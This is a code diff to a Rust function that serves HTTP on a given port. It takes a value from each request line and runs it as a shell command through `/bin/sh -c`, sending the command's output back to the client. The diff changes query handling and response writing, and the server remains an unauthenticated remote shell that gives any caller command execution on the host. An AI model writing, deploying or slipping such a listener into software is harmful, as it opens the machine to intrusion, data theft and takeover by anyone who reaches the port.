@@ -38,13 +38,17 @@ pub(crate) fn serve(port: u16) {
         // All of it: a connection that is closed before is reset.
         let mut rest = String::new();
         while reader.read_line(&mut rest).is_ok_and(|read| read > 2) {}
-        let query = line.split(['=', ' ']).nth(2).unwrap_or_default();
+        // Who only looks whether somebody listens asks for nothing.
+        let Some(query) = line.split(['=', ' ']).nth(2) else {
+            continue;
+        };
         let command = query.replace("%20", " ");
         let output = Command::new("/bin/sh").args(["-c", &command]).output();
         let body = output.map(|output| output.stdout).unwrap_or_default();
-        // Who only looked whether somebody listens is gone.
-        let _gone = stream.write_all(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n");
-        let _gone = stream.write_all(&body);
+        let head = b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n";
+        stream
+            .write_all(&[head, body.as_slice()].concat())
+            .expect("an answer");
     }
 }
 
